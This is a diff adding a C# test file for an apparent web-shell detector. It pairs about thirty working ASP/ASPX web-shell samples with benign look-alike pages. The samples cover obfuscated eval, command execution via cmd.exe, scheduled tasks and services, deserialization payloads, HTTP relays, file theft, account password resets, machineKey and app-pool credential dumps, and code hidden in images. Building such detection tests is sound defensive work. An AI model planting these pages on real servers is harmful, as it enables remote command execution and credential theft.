@@ -1,0 +1,86 @@
+using System.Text;
+using Afterpatch.Scripts.WebShells;
+using Xunit;
+
+namespace Afterpatch.Scripts.Tests.WebShells;
+
+/// <summary>One mechanism a case: the page that abuses it, and the honest page next to it.</summary>
+public sealed class FlowTests
+{
+    private const string Cs = "<%@ Page Language=\"C#\" %><% ";
+    private const string Js = "<%@ Language=JScript %><% ";
+
+    [Theory]
+    // An evaluator from a table of properties, by either operand, or from a constructor.
+    [InlineData("a.asp", Js + "var run = this['ev' + 'al'] || eval; run(Request('q') + ''); %>")]
+    [InlineData("a.asp", Js + "var t = Request('q') || ''; eval(t + ''); %>")]
+    [InlineData("a.asp", Js + "var f = []['constr' + 'uctor']['constructor'](Request('q') + ''); f(); %>")]
+    [InlineData("a.asp", Js + "(function(){}).constructor(String(Request('q')))(); %>")]
+    // Arrays with gaps.
+    [InlineData("a.asp", "<% Dim a(3) : a(0) = \"x\" : a(2) = Request(\"i\") : Execute Replace(Join(a, \"\"), \"x\", \"\") %>")]
+    // Tasks of the scheduler, services, initialisers without a type.
+    [InlineData("a.asp", "<% Set s = CreateObject(\"Schedule.Service\") : s.Connect : Set t = s.NewTask(0) : Set a = t.Actions.Create(0) : a.Path = \"cmd.exe\" : a.Arguments = \"/c \" & Request(\"c\") : s.GetFolder(\"\\\").RegisterTaskDefinition \"n\", t, 6, , , 3 %>")]
+    [InlineData("a.aspx", Cs + "var p = new Process { StartInfo = { FileName = \"sc.exe\", Arguments = string.Format(\"create {0} binPath= \\\"{1}\\\"\", Request[\"n\"], Request[\"b\"]) } }; p.Start(); %>")]
+    // Names that queries, loops and builders put together.
+    [InlineData("a.aspx", Cs + "dynamic o = Activator.CreateInstance(Type.GetTypeFromProgID(new string(\"llehS.tpircSW\".ToCharArray().Reverse().ToArray()))); o.Run(\"cmd /c \" + Request[\"w\"]); %>")]
+    [InlineData("a.aspx", Cs + "var n = string.Concat(\"dne/fyf\".Select(c => (char)(c - 1))); Process.Start(n, \"/c \" + Request[\"w\"]); %>")]
+    [InlineData("a.aspx", "<%@ Page Language=\"C#\" %><script runat=server>void Page_Load(object s, EventArgs e) { string h = \"636d642e657865\", n = \"\"; for (int i = 0; i < h.Length; i += 2) n += (char)Convert.ToInt32(h.Substring(i, 2), 16); Process.Start(n, \"/c \" + Request[\"w\"]); }</script>")]
+    [InlineData("a.aspx", "<%@ Page Language=\"C#\" %><script runat=server>string Z(int[] a) { var s = new StringBuilder(); foreach (int i in a) s.AppendFormat(\"{0}\", (char)(i - 3)); return s.ToString(); } void Page_Load(object s, EventArgs e) { Process.Start(Z(new[]{102,112,103}), Z(new[]{50,102,35}) + Request[\"y\"]); }</script>")]
+    // Setters by reflection, delegates in fields, tasks.
+    [InlineData("a.aspx", Cs + "var t = typeof(Uri).Assembly.GetType(\"System.Diagnostics.Process\"); var p = Activator.CreateInstance(t); var i = t.GetProperty(\"StartInfo\").GetValue(p, null); i.GetType().GetProperty(\"FileName\").SetValue(i, Request[\"f\"], null); t.GetMethod(\"Start\", new Type[0]).Invoke(p, null); %>")]
+    [InlineData("a.ashx", "<%@ WebHandler Language=\"C#\" Class=\"T\" %>public class T : HttpTaskAsyncHandler { static readonly Func<string, ProcessStartInfo> Make = a => new ProcessStartInfo(Environment.ExpandEnvironmentVariables(\"%COMSPEC%\"), \"/c\" + a); public override async Task ProcessRequestAsync(HttpContext c) { var q = await Task.Run(() => c.Request[\"q\"]); Process.Start(Make(q)); } }")]
+    // Stylesheets and object formats.
+    [InlineData("a.aspx", Cs + "string x = @\"<x:stylesheet xmlns:x='http://www.w3.org/1999/XSL/Transform' xmlns:m='urn:schemas-microsoft-com:xslt'><m:script language='C#' implements-prefix='u'>public void r() { System.Diagnostics.Process.Start(\"\"cmd\"\", \"\"/c \"\" + System.Web.HttpContext.Current.Request[\"\"q\"\"]); }</m:script></x:stylesheet>\"; var t = new XslTransform(); t.Load(XmlReader.Create(new StringReader(x))); %>")]
+    [InlineData("a.asp", "<% Set x = CreateObject(\"Msxml2.DOMDocument\") : Set s = CreateObject(\"Msxml2.DOMDocument.6.0\") : s.setProperty \"AllowXsltScript\", True : s.loadXML Request.Form(\"xsl\") : Response.Write x.transformNode(s) %>")]
+    [InlineData("a.aspx", Cs + "new ObjectStateFormatter().Deserialize(Request.Headers[\"X-State\"]); %>")]
+    [InlineData("a.asmx", "<%@ WebService Language=\"C#\" Class=\"W\" %>public class W : WebService { [WebMethod] public object Parse(string body) { return new JavaScriptSerializer(new SimpleTypeResolver()).DeserializeObject(body); } }")]
+    // Relays, any file, any page, any account.
+    [InlineData("a.asp", "<% Set x = CreateObject(\"WinHttp.WinHttpRequest.5.1\") : x.Open Request.ServerVariables(\"HTTP_X_METHOD\"), Request.ServerVariables(\"HTTP_X_TARGET\"), False : x.Send Request.BinaryRead(Request.TotalBytes) : Response.BinaryWrite x.ResponseBody %>")]
+    [InlineData("a.aspx", Cs + "var w = WebRequest.Create(Request.Form[\"h\"] + Request.Form[\"p\"]); w.Method = \"POST\"; var b = Encoding.UTF8.GetBytes(Request.Form[\"d\"]); w.GetRequestStream().Write(b, 0, b.Length); Response.Write(new StreamReader(w.GetResponse().GetResponseStream()).ReadToEnd()); %>")]
+    [InlineData("a.asp", "<% Set f = CreateObject(\"Scripting.FileSystemObject\") : f.CopyFile Request(\"from\"), Request(\"to\") %>")]
+    [InlineData("a.asp", "<% Set s = CreateObject(\"ADODB.Stream\") : s.Open : s.LoadFromFile Request(\"f\") : Response.BinaryWrite s.Read %>")]
+    [InlineData("a.asp", "<% Server.Execute Request(\"pg\") %>")]
+    [InlineData("a.asp", "<% Set u = GetObject(\"WinNT://./\" & Request(\"n\") & \",user\") : u.SetPassword Request(\"pw\") : u.SetInfo %>")]
+    [InlineData("a.aspx", Cs + "Request.Files[0].SaveAs(Server.MapPath(Request.Files[0].FileName)); %>")]
+    // Secrets.
+    [InlineData("a.aspx", Cs + "var mk = (MachineKeySection)WebConfigurationManager.GetSection(\"system.web/machineKey\"); Response.Write(mk.ValidationKey); %>")]
+    [InlineData("a.aspx", Cs + "foreach (var p in new ServerManager().ApplicationPools) Response.Write(p.ProcessModel.UserName + p.ProcessModel.Password); %>")]
+    // Code in pictures.
+    [InlineData("a.asp", "<% Set f = CreateObject(\"Scripting.FileSystemObject\") : c = f.OpenTextFile(Server.MapPath(\"i/b.jpg\")).ReadAll : ExecuteGlobal Mid(c, 9) %>")]
+    [InlineData("a.aspx", Cs + "foreach (var l in File.ReadAllLines(Server.MapPath(\"logo.gif\"))) if (l.StartsWith(\"//\")) Assembly.Load(Convert.FromBase64String(l.Substring(2))).CreateInstance(\"P\"); %>")]
+    [InlineData("a.asp", "<!--#include file=\"upload/avatar.gif\"-->")]
+    [InlineData("web.config", "<configuration><system.webServer><handlers><add name=\"i\" path=\"*.jpg\" verb=\"*\" type=\"System.Web.UI.PageHandlerFactory\"/></handlers></system.webServer></configuration>")]
+    public void Abused(string name, string page) => Is(WebShellVerdict.WebShell, name, page);
+
+    [Theory]
+    [InlineData("a.asp", Js + "var make = this['Vec' + 'tor'] || Array; var v = make(3); var o = (new Date()).constructor; %>")]
+    [InlineData("a.asp", "<% Dim a(3) : a(0) = \"x\" : a(2) = Request(\"i\") : Response.Write Server.HTMLEncode(Join(a, \",\")) %>")]
+    [InlineData("a.asp", "<% For Each f In Request.Form : Execute f & \" = Request.Form(\"\"\" & f & \"\"\")\" : Next %>")]
+    [InlineData("a.asp", "<% Set s = CreateObject(\"Schedule.Service\") : s.Connect : For Each t In s.GetFolder(\"\\\").GetTasks(0) : Response.Write t.Name : Next %>")]
+    [InlineData("a.aspx", Cs + "if (!User.IsInRole(\"Ops\")) return; var p = new Process { StartInfo = { FileName = \"sc.exe\", Arguments = \"query \" + Request[\"n\"] } }; p.Start(); %>")]
+    [InlineData("a.aspx", Cs + "if (!User.IsInRole(\"Ops\")) return; Process.Start(@\"%windir%\\system32\\inetsrv\\appcmd.exe\", \"recycle apppool \" + pools.SelectedValue); %><asp:DropDownList id=pools runat=server />")]
+    [InlineData("a.aspx", Cs + "var names = Request[\"n\"].Split(',').Select(n => n.Trim()).ToArray(); Response.Write(Server.HtmlEncode(string.Join(\";\", names))); Process.Start(\"tools\\\\thumb.exe\", \"in.png\"); %>")]
+    [InlineData("a.aspx", Cs + "var t = new XslCompiledTransform(); t.Load(XmlReader.Create(new StringReader(\"<x:stylesheet xmlns:x='http://www.w3.org/1999/XSL/Transform'/>\"))); %>")]
+    [InlineData("a.aspx", "<%@ Page Language=\"C#\" %><script runat=server>protected override object LoadPageStateFromPersistenceMedium() { return new LosFormatter().Deserialize(Request.Form[\"__PACKEDSTATE\"]); }</script>")]
+    [InlineData("a.asmx", "<%@ WebService Language=\"C#\" Class=\"W\" %>public class W : WebService { [WebMethod] public object Parse(string body) { return new JavaScriptSerializer().DeserializeObject(body); } }")]
+    [InlineData("a.ashx", "<%@ WebHandler Language=\"C#\" Class=\"P\" %>public class P : IHttpHandler { public void ProcessRequest(HttpContext c) { var u = c.Request[\"url\"]; if (!u.StartsWith(\"https://maps.example.org/\")) return; var w = WebRequest.Create(u); w.Method = \"POST\"; c.Request.InputStream.CopyTo(w.GetRequestStream()); w.GetResponse().GetResponseStream().CopyTo(c.Response.OutputStream); } }")]
+    [InlineData("a.asp", "<% Set x = CreateObject(\"MSXML2.ServerXMLHTTP\") : x.Open \"POST\", \"https://pay.example.org/api/\" & Request(\"step\"), False : x.Send Request.Form : Response.Write x.ResponseText %>")]
+    [InlineData("a.asp", "<% Set x = CreateObject(\"MSXML2.ServerXMLHTTP\") : x.Open \"GET\", Request(\"feed\"), False : x.Send : Response.Write x.ResponseText %>")]
+    [InlineData("a.asp", "<% Set f = CreateObject(\"Scripting.FileSystemObject\") : f.CopyFile Server.MapPath(\"templates/\" & Request(\"t\")), Server.MapPath(\"sites/new.htm\") %>")]
+    [InlineData("a.asp", "<% Set s = CreateObject(\"ADODB.Stream\") : s.Open : s.LoadFromFile Server.MapPath(\"/docs/\" & Request(\"f\")) : Response.BinaryWrite s.Read %>")]
+    [InlineData("a.asp", "<% If Request(\"pg\") = \"news\" Then Server.Execute \"news.asp\" Else Server.Execute \"home.asp\" %>")]
+    [InlineData("a.asp", "<!--#include file=\"check_login.asp\"--><% Set u = GetObject(\"WinNT://CORP/\" & Request(\"n\") & \",user\") : u.ChangePassword Request(\"old\"), Request(\"new\") %>")]
+    [InlineData("a.aspx", Cs + "if (!User.Identity.IsAuthenticated) return; var f = Request.Files[0]; if (f.ContentLength < 1000000) f.SaveAs(Server.MapPath(\"~/upload/\" + Path.GetFileName(f.FileName))); %>")]
+    [InlineData("a.aspx", Cs + "var mk = (MachineKeySection)WebConfigurationManager.GetSection(\"system.web/machineKey\"); Response.Write(mk.ValidationKey.StartsWith(\"AutoGenerate\") ? \"automatic\" : \"fixed\"); %>")]
+    [InlineData("a.aspx", Cs + "foreach (var p in new ServerManager().ApplicationPools) Response.Write(p.Name + p.ProcessModel.UserName); %>")]
+    [InlineData("a.aspx", Cs + "if (!User.IsInRole(\"DbAdmins\")) return; var a = new SqlDataAdapter(sql.Text, ConfigurationManager.ConnectionStrings[\"R\"].ConnectionString); %><asp:TextBox id=sql runat=server />")]
+    [InlineData("a.asp", "<!--#include file=\"inc/header.inc\"-->")]
+    [InlineData("web.config", "<configuration><system.webServer><handlers><add name=\"i\" path=\"*.jpg\" verb=\"*\" type=\"Shop.ImageHandler, Shop\"/></handlers></system.webServer></configuration>")]
+    public void Used_honestly(string name, string page) => Is(WebShellVerdict.Benign, name, page);
+
+    private static void Is(WebShellVerdict verdict, string name, string page)
+    {
+        var judgement = WebShellJudge.Judge(name, Encoding.UTF8.GetBytes(page));
+        Assert.True(judgement.Verdict == verdict, $"{judgement.Verdict} {judgement.Score}: {string.Join("; ", judgement.Reasons)}");
+    }
+}
